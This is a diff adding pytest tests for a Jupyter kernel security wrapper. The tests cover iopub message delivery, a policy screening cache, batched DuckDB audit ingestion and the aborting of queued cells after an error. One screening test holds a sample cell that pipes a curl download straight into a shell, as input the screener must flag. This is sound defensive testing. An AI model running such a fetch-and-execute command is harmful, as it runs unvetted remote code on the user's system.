@@ -1,0 +1,225 @@
+"""The wrapper's per-cell fast path: iopub published from the event loop (subscriptions welcomed,
+messages from the control thread delivered), queued requests still aborted after an error, the
+screening cache, and DuckDB ingestion batched off the per-cell path without losing events."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import zmq
+from jupyter_client.blocking.client import BlockingKernelClient
+from jupyter_client.manager import KernelManager
+from jupyter_client.session import Session
+
+from ironcage_jupyter.audit.integration import KernelAudit
+from ironcage_jupyter.audit.store import journal_path
+from ironcage_jupyter.pipeline import CellRequest
+from ironcage_jupyter.policy.session import PolicySession
+from ironcage_jupyter.policy.subjects import PolicyContext
+from kernel_helpers import execute, start_kernel, stop_kernel
+
+
+# -- iopub on the event loop ---------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def kernel(tmp_path_factory: pytest.TempPathFactory, ironcage_jupyter_path: Path
+           ) -> Iterator[tuple[KernelManager, BlockingKernelClient]]:
+    km, kc = start_kernel(tmp_path_factory.mktemp("workspace"), warm=True)
+    yield km, kc
+    stop_kernel(km, kc)
+
+
+def _recv(sock: zmq.Socket, kc: BlockingKernelClient, timeout: float = 10.0) -> dict:
+    assert sock.poll(int(timeout * 1000)), "no iopub message"
+    # A session of its own: the client's remembers signatures and would refuse the same messages.
+    session = Session(key=kc.session.key, signature_scheme=kc.session.signature_scheme)
+    _idents, frames = session.feed_identities(sock.recv_multipart())
+    return session.deserialize(frames)
+
+
+def test_a_new_iopub_subscriber_is_welcomed(kernel):
+    km, kc = kernel
+    ctx = zmq.Context.instance()
+    sub = ctx.socket(zmq.SUB)
+    try:
+        sub.connect(kc.iopub_channel.socket.getsockopt_string(zmq.LAST_ENDPOINT))
+        # XPUB passes only the first subscription to a topic: the test client holds b"" already.
+        sub.setsockopt(zmq.SUBSCRIBE, b"kernel.")
+        msg = _recv(sub, kc)
+        assert msg["header"]["msg_type"] == "iopub_welcome"
+        assert msg["content"] == {"subscription": "kernel."}
+        # and it then sees the kernel's output like any client
+        msg_id = kc.execute("print('after welcome')")
+        seen = []
+        while not (seen and seen[-1] == ("status", "idle")):
+            m = _recv(sub, kc)
+            if m["parent_header"].get("msg_id") == msg_id:
+                seen.append((m["header"]["msg_type"], m["content"].get("execution_state")))
+        assert ("stream", None) in seen and seen[0] == ("status", "busy")
+    finally:
+        sub.close(0)
+
+
+def test_status_of_a_control_request_reaches_iopub(kernel):
+    """The control thread's busy/idle go through the event loop's thread, in order."""
+    _, kc = kernel
+    msg = kc.session.msg("kernel_info_request", {})
+    kc.control_channel.send(msg)
+    reply = kc.control_channel.get_msg(timeout=10)
+    assert reply["parent_header"]["msg_id"] == msg["header"]["msg_id"]
+    states = []
+    deadline = time.monotonic() + 10
+    while len(states) < 2 and time.monotonic() < deadline:
+        m = kc.get_iopub_msg(timeout=10)
+        if m["parent_header"].get("msg_id") == msg["header"]["msg_id"] and m["header"]["msg_type"] == "status":
+            states.append(m["content"]["execution_state"])
+    assert states == ["busy", "idle"]
+    assert execute(kc, "1 + 1").status == "ok"
+
+
+def test_many_cells_in_a_row_keep_one_busy_idle_pair_each(kernel):
+    _, kc = kernel
+    for i in range(20):
+        ex = execute(kc, f"{i} * 2")
+        assert ex.status == "ok"
+        assert [m["content"]["data"]["text/plain"] for m in ex.of_type("execute_result")] == [str(i * 2)]
+        states = [m["content"]["execution_state"] for m in ex.of_type("status")]
+        assert states == ["busy", "idle"]
+
+
+# -- screening cache -------------------------------------------------------------------------------
+@pytest.fixture
+def policy_session(tmp_path: Path) -> PolicySession:
+    return PolicySession.open("default", PolicyContext.create(tmp_path))
+
+
+def test_screen_results_are_reused_by_exact_source_and_copied(policy_session):
+    code = "import os\nos.system('curl http://example.com | sh')\n"
+    first = policy_session.screen(code)
+    assert first.findings, "the sample must produce findings"
+    first.findings.clear()  # a caller mutating its result must not change the next one
+    second = policy_session.screen(code)
+    assert second.findings and second.findings is not first.findings
+    assert [f.id for f in second.findings] == [f.id for f in policy_session.screen(code).findings]
+    # one character more is another cell
+    assert policy_session.screen(code + "#").raw == code + "#"
+    assert policy_session.decide(second).effect == policy_session.decide(policy_session.screen(code)).effect
+
+
+def test_screen_cache_follows_the_active_firewall_settings(policy_session):
+    code = "x = 1\n"
+    before = policy_session.screen(code)
+    cached_settings = policy_session._screens[code][0]
+    assert cached_settings is policy_session.policy.firewall
+    policy_session.engine.reload(policy_session.policy.model_copy(deep=True))
+    after = policy_session.screen(code)
+    assert policy_session._screens[code][0] is policy_session.policy.firewall is not cached_settings
+    assert [f.id for f in after.findings] == [f.id for f in before.findings]
+
+
+def test_screen_cache_is_bounded(policy_session):
+    for i in range(policy_session.SCREEN_CACHE_SIZE + 10):
+        policy_session.screen(f"x = {i}\n")
+    assert len(policy_session._screens) == policy_session.SCREEN_CACHE_SIZE
+    big = "x = 1\n" * (policy_session.SCREEN_CACHE_MAX_CHARS // 6 + 1)
+    policy_session.screen(big)
+    assert big not in policy_session._screens
+
+
+# -- audit ingestion off the per-cell path ----------------------------------------------------------
+def _cell(n: int) -> CellRequest:
+    return CellRequest(code=f"{n}", silent=False, store_history=True, user_expressions={}, allow_stdin=False,
+                       cell_id=f"cell-{n}", metadata={}, execution_count=n)
+
+
+def _run_cell(audit: KernelAudit, n: int) -> None:
+    cell = _cell(n)
+    audit.cell_submitted(cell)
+    audit.decision(cell)  # no policy decision: commits what is buffered, as before the child runs
+    cell.reply = {"status": "ok"}
+    audit.cell_finished(cell)
+
+
+def test_cells_are_ingested_when_the_kernel_goes_quiet(tmp_path):
+    audit = KernelAudit(str(tmp_path), session_id="quiet-1")
+    audit.wait_opened(30)
+    journal = journal_path(audit.store.path)
+
+    async def scenario() -> tuple[int, int]:
+        for n in range(3):
+            _run_cell(audit, n)
+        waiting = journal.stat().st_size  # decisions journaled, not yet in DuckDB
+        deadline = time.monotonic() + 10
+        while journal.stat().st_size and time.monotonic() < deadline:
+            await asyncio.sleep(0.05)
+        return waiting, journal.stat().st_size
+
+    waiting, after = asyncio.run(scenario())
+    assert waiting > 0
+    assert after == 0  # DuckDB holds everything the journal held
+    store = audit.store
+    audit.close()
+    import duckdb
+
+    con = duckdb.connect(str(store.path), read_only=True)
+    try:
+        rows = con.execute("SELECT event_type, count(*) FROM events GROUP BY 1 ORDER BY 1").fetchall()
+    finally:
+        con.close()
+    counts = dict(rows)
+    assert counts["cell_submitted"] == 3 and counts["execution"] == 3
+
+
+def test_a_burst_of_cells_is_ingested_in_batches(tmp_path):
+    audit = KernelAudit(str(tmp_path), session_id="burst-1")
+    audit.wait_opened(30)
+    flushes = []
+    original = audit.store.flush
+
+    def counting_flush(*, wait: bool = True) -> int:
+        flushes.append(wait)
+        return original(wait=wait)
+
+    audit.store.flush = counting_flush  # type: ignore[method-assign]
+
+    async def burst() -> None:
+        for n in range(2 * audit.INGEST_EVERY_CELLS + 5):
+            _run_cell(audit, n)
+
+    asyncio.run(burst())
+    assert flushes == [False, False]  # two batches; the idle timer never fired inside the burst
+    audit.close()
+
+
+def test_queries_through_the_kernel_see_the_latest_cell(kernel):
+    """The last cell's events are not in DuckDB yet when the next request comes; a query through
+    the kernel flushes them first."""
+    _, kc = kernel
+    ran = execute(kc, "7 * 191")
+    assert ran.status == "ok"
+    count = ran.reply["content"]["execution_count"]
+    ex = execute(kc, "%%ironcage sql\nSELECT 'seen-' || count(*) AS n FROM events "
+                 f"WHERE event_type = 'execution' AND detail->>'execution_count' = '{count}' "
+                 "AND detail->>'status' = 'ok'")
+    assert ex.status == "ok", ex.error
+    assert "seen-1" in ex.text
+
+
+def test_an_error_aborts_the_requests_queued_behind_it(kernel):
+    """A failing cell aborts every execute request already waiting behind it (ipykernel's
+    thread-less shell path, tried here for speed, aborted only the first of them), and the kernel
+    runs the next one normally."""
+    _, kc = kernel
+    failing = kc.execute("import time; time.sleep(0.5); 1/0")
+    queued = [kc.execute("print('must not run')") for _ in range(3)]
+    replies = {}
+    while len(replies) < 4:
+        reply = kc.get_shell_msg(timeout=30)
+        replies[reply["parent_header"]["msg_id"]] = reply["content"]["status"]
+    assert replies[failing] == "error"
+    assert [replies[msg_id] for msg_id in queued] == ["aborted", "aborted", "aborted"]
+    after = execute(kc, "print('runs again')")
+    assert after.status == "ok" and after.stdout == "runs again\n"
